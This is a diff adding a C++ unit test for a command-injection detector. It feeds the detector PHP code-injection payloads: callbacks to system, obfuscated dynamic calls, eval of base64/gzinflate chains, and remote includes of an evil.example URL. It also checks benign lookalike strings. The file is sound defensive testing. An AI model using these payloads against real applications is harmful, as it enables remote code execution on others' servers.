@@ -579,6 +579,60 @@ TEST(CmdiTest, RedirectionsIfsBlanksCaretsAndWindowsShells) {
   }
 }
 
+// PHP code injection beyond a direct call of a command runner: runners
+// passed by name as callbacks, callees computed from strings or decoders or
+// held in a variable assigned in the value, request superglobals passed
+// whole, nested decoders, strings built with chr(), remote includes and the
+// configuration directives that include request code.
+TEST(CmdiTest, PhpCallbacksComputedCallsAndIncludes) {
+  const std::pair<const char*, const char*> attacks[] = {
+      {"array_map('system',array('id'))", "cmdi.php_callback"},
+      {"usort($a, 'system')", "cmdi.php_callback"},
+      {"call_user_func_array(\"passthru\", [\"id\"])", "cmdi.php_callback"},
+      {"('sys'.'tem')('id')", "cmdi.php_dynamic_call"},
+      {"(system)('id')", "cmdi.php_dynamic_call"},
+      {"base64_decode('c3lzdGVt')('id')", "cmdi.php_dynamic_call"},
+      {"\"\\x73\\x79stem\"('id')", "cmdi.php_dynamic_call"},
+      {"$a='sys'.'tem';$a('id');", "cmdi.php_dynamic_call"},
+      {"$_SERVER['HTTP_USER_AGENT']", "cmdi.php_superglobal"},
+      {"$GLOBALS['x']", "cmdi.php_superglobal"},
+      {"extract($_GET)", "cmdi.php_superglobal"},
+      {"gzinflate(base64_decode('x'))", "cmdi.php_decoder_chain"},
+      {"eval(gzinflate(base64_decode('x')))", "cmdi.php_decoder_chain"},
+      {"$x=chr(115).chr(121).chr(115);", "cmdi.php_chr_chain"},
+      {"require_once('http://evil.example/x.txt')", "cmdi.php_remote_include"},
+      {"include 'http://evil.example/x.txt';", "cmdi.php_remote_include"},
+      {"include(\"php://input\");", "cmdi.php_remote_include"},
+      {"allow_url_include=On", "cmdi.php_ini_directive"},
+      {"-d auto_prepend_file = /tmp/x", "cmdi.php_ini_directive"},
+      {"show_source('index.php')", "cmdi.code_exec_call"},
+  };
+  for (const auto& [v, rule] : attacks) {
+    Match m;
+    ASSERT_TRUE(Detects(CmdiDetector(), Case{v}, &m)) << v;
+    EXPECT_EQ(m.rule_id, rule) << v;
+  }
+  for (const std::string b :
+       {"system('id') is what attackers send",  // still a call: reported below
+        "Select('system')", "filter('system', 'x')", "the system (it works) ('really')", "a)(b",
+        "(see note)('x')", "$price = 5; $total('x')", "chr(65) is A",
+        "include the 'http://' prefix", "allow_url_include is off", "print the $_GET variable docs",
+        "$_GET is a superglobal", "$total=$a+$b; $f = 1"}) {
+    Match m;
+    const bool hit = Detects(CmdiDetector(), Case{b}, &m);
+    if (b.starts_with("system(")) {
+      EXPECT_TRUE(hit) << b;
+    } else {
+      EXPECT_FALSE(hit) << b << " -> " << m.rule_id;
+    }
+  }
+  // The searches stay linear on values made of their triggers.
+  std::string many;
+  for (int i = 0; i < 20000; ++i) many += "$a('x')('";
+  Match m;
+  (void)Detects(CmdiDetector(), Case{many}, &m);
+}
+
 TEST(CmdiTest, AdministrationAndDebuggingTools) {
   const std::vector<std::string> attacks = {
       ";gdb -batch -ex \"!id\"",
